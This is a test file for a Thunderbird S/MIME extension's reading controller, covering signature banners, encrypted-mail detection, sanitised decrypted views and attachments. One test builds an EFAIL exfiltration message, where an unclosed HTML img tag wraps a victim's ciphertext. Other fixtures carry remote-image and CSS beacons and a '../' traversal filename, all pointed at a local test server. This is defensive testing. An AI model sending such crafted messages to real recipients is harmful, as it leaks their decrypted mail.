/**
 * The reading controller with a fake Thunderbird edge (ReadPlatform) and real messages: toolbar and
 * banner per tab, encrypted mail recognised on selection, the decrypted view as text only (an HTML
 * message's remote image and CSS url() cause zero requests), attachments as bytes. Runs under happy-dom
 * for DOMParser. TEST KEYS — NOT SECRET.
 */
import { createServer, type Server } from 'node:http';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { cleanup, render, screen, waitFor } from '@testing-library/preact';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_POLICY, type DecryptionIdentity } from '../../../src/crypto/index.js';
import { htmlToTextWithDomParser } from '../../../src/background/read/decrypted-content.js';
import { MessageReader, type ReaderKeys } from '../../../src/background/read/message-reader.js';
import type { ReadPlatform, ToolbarState } from '../../../src/background/read/read-platform.js';
import type { OwnIdentity } from '../../../src/background/read/display-status.js';
import { isEncryptedMessage, ReadingController } from '../../../src/background/read/reading-controller.js';
import { sanitizeHtml, type CidImage } from '../../../src/background/read/html-sanitizer.js';
import { DecryptedPage } from '../../../src/display/DecryptedPage.js';
import type { BannerContent } from '../../../src/shared/read-protocol.js';
import type { Call } from '../../../src/shared/rpc.js';
import { createTestPki, TEST_NOW, type TestPki } from '../../helpers/pki.js';
import { crlf, headersWith, message, textEntity, validDetached } from '../../helpers/fixtures-signed.js';
import { crypto, openssl, requireTool, scratchDir, toPemText } from '../../helpers/encryption.js';
import { translator } from '../compose/i18n.js';

let pki: TestPki;
let server: Server;
let port = 0;
const requests: string[] = [];

beforeAll(async () => {
  pki = await createTestPki(crypto);
  server = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as { port: number }).port;
}, 60_000);

afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
afterEach(cleanup);

class FakePlatform implements ReadPlatform {
  toolbar = new Map<number, ToolbarState>();
  banners: { tabId: number; content: BannerContent | null }[] = [];
  opened: string[] = [];
  raw = new Map<number, Uint8Array>();
  /** What reached the Thunderbird edge, in order: the indicator must change only after our own status is up. */
  events: string[] = [];
  /** Thunderbird's S/MIME indicator per tab: hidden for which message. */
  indicator = new Map<number, { messageId: number; hidden: boolean }>();
  async registerBannerScript() {}
  async setToolbar(tabId: number, state: ToolbarState) {
    this.toolbar.set(tabId, state);
    this.events.push(`toolbar ${tabId}`);
  }
  async setThunderbirdIndicatorHidden(tabId: number, messageId: number, hidden: boolean) {
    this.indicator.set(tabId, { messageId, hidden });
    this.events.push(`indicator ${tabId} ${messageId} ${hidden ? 'hidden' : 'shown'}`);
    return true;
  }
  async sendBanner(tabId: number, content: BannerContent | null) {
    this.banners.push({ tabId, content });
    this.events.push(`banner ${tabId}`);
    return true;
  }
  onBannerRequest() {}
  onSelectedMessage() {}
  async getRaw(messageId: number) {
    const bytes = this.raw.get(messageId);
    if (!bytes) throw new Error(`no message ${messageId}`);
    return bytes;
  }
  async openPage(path: string) {
    this.opened.push(path);
  }
  async securityPhrase() {
    return 'amber birch comet';
  }
  t = translator().t;
}

function setup(unlocked: DecryptionIdentity[] | null = null, own: OwnIdentity[] = [], trustRoot = true, htmlView = false) {
  const platform = new FakePlatform();
  const keys: ReaderKeys = {
    isUnlocked: () => unlocked !== null,
    decryptionIdentities: () => unlocked ?? [],
    ownIdentities: async () => own,
    userAnchors: async () => (trustRoot ? [{ der: pki.root.certificate, source: 'user', purposes: ['email'] }] : []),
    isKnownCertificate: async () => false,
    harvest: async () => null,
  };
  const reader = new MessageReader({ keys, crypto, policy: DEFAULT_POLICY, now: () => TEST_NOW });
  const controller = new ReadingController({
    platform,
    reader,
    policy: DEFAULT_POLICY,
    htmlToText: htmlToTextWithDomParser,
    ...(htmlView ? { sanitizeHtml: (html: string, images: CidImage[]) => sanitizeHtml(html, new DOMParser(), images).html } : {}),
    unlock: async () => {},
  });
  return { platform, controller };
}

const ATTACHMENT = Buffer.from([0, 1, 2, 3, 250, 251, 252]);

function encryptedHtml(cipher: string): Uint8Array {
  requireTool('openssl');
  const html = `<html><head><style>body{background:url(http://127.0.0.1:${port}/style.png)}</style></head><body><p>Secret plan</p><img src="http://127.0.0.1:${port}/remote.png"><div style="background:url(http://127.0.0.1:${port}/inline.png)">Meet at noon</div></body></html>`;
  const inner = Buffer.concat([
    crlf('Content-Type: multipart/mixed; boundary="inner"\n\n--inner\nContent-Type: text/html; charset=utf-8\n\n'),
    crlf(`${html}\n--inner\nContent-Type: application/octet-stream; name="data.bin"\nContent-Disposition: attachment; filename="../data.bin"\nContent-Transfer-Encoding: base64\n\n${ATTACHMENT.toString('base64')}\n--inner--\n`),
  ]);
  const { dir, cleanup: remove } = scratchDir();
  try {
    writeFileSync(join(dir, 'to.pem'), toPemText(pki.users.bob.rsa.certificate, 'CERTIFICATE'));
    writeFileSync(join(dir, 'in.eml'), inner);
    return new Uint8Array(openssl(['cms', '-encrypt', '-binary', `-${cipher}`, '-in', join(dir, 'in.eml'), '-from', 'alice@example.com', '-to', 'bob@example.com', '-subject', 'Plans', join(dir, 'to.pem')]));
  } finally {
    remove();
  }
}

const bob = (): DecryptionIdentity[] => [{ certificate: pki.users.bob.rsa.certificate, pkcs8: pki.users.bob.rsa.pkcs8 }];

describe('display: toolbar and banner per tab', () => {
  it('SEC-01: a valid signed message sets the ok toolbar state and pushes the banner with the security phrase', async () => {
    const { platform, controller } = setup();
    await controller.displayed(3, 11, validDetached(pki));
    expect(platform.toolbar.get(3)).toEqual({ icon: 'ok.svg', title: 'Signed by alice@example.com. The message is unchanged and the signature is trusted.', badge: '' });
    expect(platform.banners.at(-1)?.content).toMatchObject({ securityPhrase: 'amber birch comet', status: { signature: 'valid', tone: 'ok' } });
  });

  it('unsigned mail: neutral toolbar (the popup explains) and no banner', async () => {
    const { platform, controller } = setup();
    await controller.displayed(3, 12, message(textEntity('hello'), headersWith({})));
    expect(platform.toolbar.get(3)).toEqual({ icon: 'none.svg', title: 'Waxseal: this message is not signed.', badge: '' });
    expect(platform.banners.at(-1)).toEqual({ tabId: 3, content: null });
    expect(await controller.bannerFor(3)).toBeNull();
  });

  it('a late result for a message no longer shown in the tab does not overwrite the newer one', async () => {
    const { platform, controller } = setup();
    const slow = controller.displayed(5, 21, validDetached(pki));
    await controller.displayed(5, 22, message(textEntity('newer'), headersWith({})));
    await slow;
    expect(platform.toolbar.get(5)?.icon).toBe('none.svg');
    expect(platform.indicator.get(5)).toEqual({ messageId: 22, hidden: false });
    expect(platform.events).not.toContain('indicator 5 21 hidden');
  });
});

describe("Thunderbird's own S/MIME indicator (one verdict per message)", () => {
  it('SEC-15: a message Waxseal judged hides Thunderbird\'s indicator, only after the toolbar and banner show our verdict', async () => {
    const { platform, controller } = setup();
    await controller.displayed(3, 11, validDetached(pki));
    expect(platform.events).toEqual(['toolbar 3', 'banner 3', 'indicator 3 11 hidden']);
  });

  it('SEC-15: a signature Waxseal does not trust also replaces the indicator, so NSS cannot contradict it', async () => {
    const { platform, controller } = setup(null, [], false);
    await controller.displayed(4, 13, validDetached(pki));
    expect(platform.toolbar.get(4)?.icon).toBe('warn.svg');
    expect(platform.banners.at(-1)?.content?.status.signature).toBe('unknown-ca');
    expect(platform.indicator.get(4)).toEqual({ messageId: 13, hidden: true });
  });

  it("unsigned mail keeps Thunderbird's indicator, also in a tab that showed a judged message before", async () => {
    const { platform, controller } = setup();
    await controller.displayed(3, 11, validDetached(pki));
    await controller.displayed(3, 12, message(textEntity('hello'), headersWith({})));
    expect(platform.indicator.get(3)).toEqual({ messageId: 12, hidden: false });
  });
});

describe('encrypted mail (no display event in Thunderbird)', () => {
  it('isEncryptedMessage reads only the root Content-Type', () => {
    expect(isEncryptedMessage(encryptedHtml('aes-128-cbc'))).toBe(true);
    expect(isEncryptedMessage(validDetached(pki))).toBe(false);
    expect(isEncryptedMessage(crlf('Content-Type: application/pkcs7-mime; smime-type=signed-data\n\nx'))).toBe(false);
    const folded = Buffer.concat([Buffer.from('X-Mozilla-Status: 0001\n'), crlf('Content-Type: application/x-pkcs7-mime;\n name="smime.p7m"\n\nx')]);
    expect(isEncryptedMessage(new Uint8Array(folded))).toBe(true);
  });

  it('selection of an encrypted message while locked: action state, decrypted page opened once', async () => {
    const bobRsa = pki.users.bob.rsa;
    const { platform, controller } = setup(null, [{ fingerprintSha256: 'bob', subject: bobRsa.x509.subject, issuer: bobRsa.x509.issuer, serialNumberHex: bobRsa.x509.serialNumber, subjectKeyIdentifierHex: null, current: true }]);
    platform.raw.set(31, encryptedHtml('aes-256-gcm'));
    await controller.selected(4, 31);
    await controller.selected(4, 31);
    expect(platform.toolbar.get(4)?.icon).toBe('action.svg');
    expect(platform.opened).toEqual(['/display/decrypted.html?message=31']);
    const view = await controller.decryptedView(31);
    expect(view.text).toBeNull();
    expect(view.status.encryption).toBe('locked');
  });

  it('SEC-02: EFAIL direct exfiltration (HTML around a victim\'s encrypted part) is not decrypted, not opened, and requests nothing', async () => {
    // The attacker's message: multipart/mixed of [<img src="http://…/?] + [the victim's openssl-encrypted entity] + [">].
    const victim = Buffer.from(encryptedHtml('aes-256-cbc'));
    // The victim's message without its own To/From/Subject: the encrypted entity as the attacker embeds it.
    const entity = victim.subarray(victim.toString('latin1').search(/^MIME-Version:/m));
    expect(entity.toString('latin1')).toMatch(/^MIME-Version: 1\.0\r?\n(.+\r?\n)*Content-Type: application\/(x-)?pkcs7-mime/);
    const attack = Buffer.concat([
      crlf(`From: Mallory <mallory@example.com>\nTo: Bob <bob@example.com>\nSubject: Re: Plans\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\nContent-Type: text/html\n\n<img src="http://127.0.0.1:${port}/?\n--efail\n`),
      entity,
      crlf('\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'),
    ]);
    const { platform, controller } = setup(bob());
    platform.raw.set(33, attack);
    requests.length = 0;
    expect(isEncryptedMessage(attack)).toBe(false);
    await controller.selected(4, 33);
    await controller.displayed(4, 33, attack);
    expect(platform.opened).toEqual([]);
    // Nothing Waxseal shows carries the victim's plaintext, and no decrypted view exists for it.
    expect(JSON.stringify(platform.banners)).not.toContain('Secret plan');
    const view = await controller.decryptedView(33);
    expect(view.status).toMatchObject({ encryption: null, decryptedViewAvailable: false });
    expect(view.text).toBeNull();
    expect(view.html).toBeNull();
    expect(view.attachments).toEqual([]);
    expect(JSON.stringify(view)).not.toContain('Secret plan');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(requests).toEqual([]);
  });

  it('selection of a signed message opens nothing', async () => {
    const { platform, controller } = setup(null);
    platform.raw.set(32, validDetached(pki));
    await controller.selected(4, 32);
    expect(platform.opened).toEqual([]);
  });

  for (const cipher of ['aes-256-cbc', 'aes-256-gcm']) {
    it(`SEC-21: ${cipher} HTML mail decrypts to text; its remote image and CSS url() cause zero requests`, async () => {
      const { platform, controller } = setup(bob());
      platform.raw.set(41, encryptedHtml(cipher));
      requests.length = 0;
      const view = await controller.decryptedView(41);
      expect(view.status.encryption).toBe(cipher.endsWith('gcm') ? 'authenticated' : 'unauthenticated');
      expect(view.convertedFromHtml).toBe(true);
      expect(view.text).toContain('Secret plan');
      expect(view.text).toContain('Meet at noon');
      expect(view.text).not.toContain('http://');
      expect(view.attachments).toEqual([{ index: 0, fileName: '.._data.bin', contentType: 'application/octet-stream', size: ATTACHMENT.length }]);
      const downloads: { fileName: string; bytes: Uint8Array }[] = [];
      const call = (async (name: string, req: { messageId: number; index?: number }) => {
        if (name === 'getDecryptedView') return controller.decryptedView(req.messageId);
        if (name === 'getDecryptedAttachment') return controller.attachment(req.messageId, req.index ?? -1);
        throw new Error(name);
      }) as unknown as Call;
      render(<DecryptedPage call={call} t={translator().t} messageId={41} copy={async () => {}} download={(fileName, _type, bytes) => downloads.push({ fileName, bytes })} version="test" />);
      await waitFor(() => expect(screen.getByTestId('decrypted-page').dataset.ready).toBe('true'));
      expect(screen.getByTestId('decrypted-text').textContent).toContain('Secret plan');
      screen.getByTestId('decrypted-attachment-0').click();
      await waitFor(() => expect(downloads).toHaveLength(1));
      expect(Buffer.from(downloads[0]!.bytes).equals(ATTACHMENT)).toBe(true);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(requests).toEqual([]);
    });
  }

  it('SEC-01: the HTML view shows the sanitised body in a sandboxed frame under its own CSP, with zero requests; the text view is one click away', async () => {
    const { platform, controller } = setup(bob(), [], true, true);
    platform.raw.set(42, encryptedHtml('aes-256-gcm'));
    requests.length = 0;
    const view = await controller.decryptedView(42);
    expect(view.html).toContain('Meet at noon');
    expect(view.html).not.toContain('127.0.0.1');
    const call = (async (name: string, req: { messageId: number }) => {
      if (name === 'getDecryptedView') return controller.decryptedView(req.messageId);
      throw new Error(name);
    }) as unknown as Call;
    render(<DecryptedPage call={call} t={translator().t} messageId={42} copy={async () => {}} download={() => {}} version="test" />);
    await waitFor(() => expect(screen.getByTestId('decrypted-page').dataset.ready).toBe('true'));
    const frame = screen.getByTestId('decrypted-html');
    expect(frame.getAttribute('sandbox')).toBe('');
    const srcdoc = frame.getAttribute('srcdoc') ?? '';
    expect(srcdoc.indexOf("default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'; form-action 'none'")).toBeGreaterThan(0);
    expect(srcdoc.indexOf('Content-Security-Policy')).toBeLessThan(srcdoc.indexOf('Secret plan'));
    expect(srcdoc).not.toContain('127.0.0.1');
    expect(screen.queryByTestId('decrypted-text')).toBeNull();
    screen.getByTestId('decrypted-show-text').click();
    await waitFor(() => expect(screen.getByTestId('decrypted-text').textContent).toContain('Secret plan'));
    screen.getByTestId('decrypted-show-html').click();
    await waitFor(() => expect(screen.getByTestId('decrypted-html')).toBeTruthy());
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(requests).toEqual([]);
  });

  it('SEC-19: the decrypted page never shows content from outside the encryption, and fails typed for a non-decrypted message', async () => {
    const { platform, controller } = setup(bob());
    platform.raw.set(51, validDetached(pki));
    await expect(controller.attachment(51, 0)).rejects.toMatchObject({ code: 'MESSAGE_NOT_DECRYPTED' });
    expect((await controller.decryptedView(51)).text).toBeNull();
  });

  it('locking drops decrypted content from memory', async () => {
    const { platform, controller } = setup(bob());
    platform.raw.set(61, encryptedHtml('aes-128-gcm'));
    await controller.displayed(2, 61);
    controller.locked();
    platform.raw.set(61, new Uint8Array());
    expect((await controller.decryptedView(61)).text).toBeNull();
  });
});
